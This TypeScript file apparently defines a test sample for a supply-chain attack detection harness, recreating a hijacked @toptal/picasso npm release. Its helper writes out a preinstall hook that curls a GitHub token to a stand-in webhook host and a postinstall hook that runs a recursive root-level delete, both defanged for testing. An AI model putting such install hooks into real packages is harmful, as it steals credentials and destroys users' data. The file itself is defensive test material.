import { defineAttack } from "../attack.ts";
import { componentLibrary } from "../bases.ts";
import { guardCommand } from "../guard.ts";
import type { PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@toptal/picasso-*`, 20 July 2025: a hijacked GitHub organisation. `preinstall` sent the token of the GitHub command to a
 * webhook service, `postinstall` deleted recursively. Reproduced with a home that does not exist.
 */
export const toptalPicasso2025: Sample = defineAttack({
  id: "toptal-picasso-2025",
  title: "Hooks in the manifest send a token and delete everything",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "@toptal/picasso-tailwind", version: "3.1.0" }],
  now: "2025-07-20T12:20:00Z",
  createLines: () => [
    line("@toptal/picasso-tailwind", ["2.0.1", "3.0.0", "3.1.0"], "2025-07-20T12:00:00Z"),
    line("@toptal/picasso-charts", ["59.1.2", "59.1.3", "59.1.4"], "2025-07-20T12:04:00Z"),
    line("@toptal/picasso-shared", ["14.0.0", "15.0.0", "15.1.0"], "2025-07-20T12:09:00Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const send =
    'curl -s -X POST -H "Content-Type: text/plain" --data "$(gh auth token)" https://webhook.site.invalid/59d34a3b-inert';
  const wipe = 'HOME=/nonexistent/inert; rm -rf --no-preserve-root "$HOME"/';
  const scripts = { test: "node --test", preinstall: guardCommand(send), postinstall: guardCommand(wipe) };
  return {
    name,
    files: componentLibrary(name),
    publisher: person("toptal-bot"),
    releases: [
      [older, "2025-03-12T10:00:00Z"],
      [last, "2025-05-20T10:00:00Z"],
      [armed, at, { manifest: { scripts } }],
    ],
  };
}
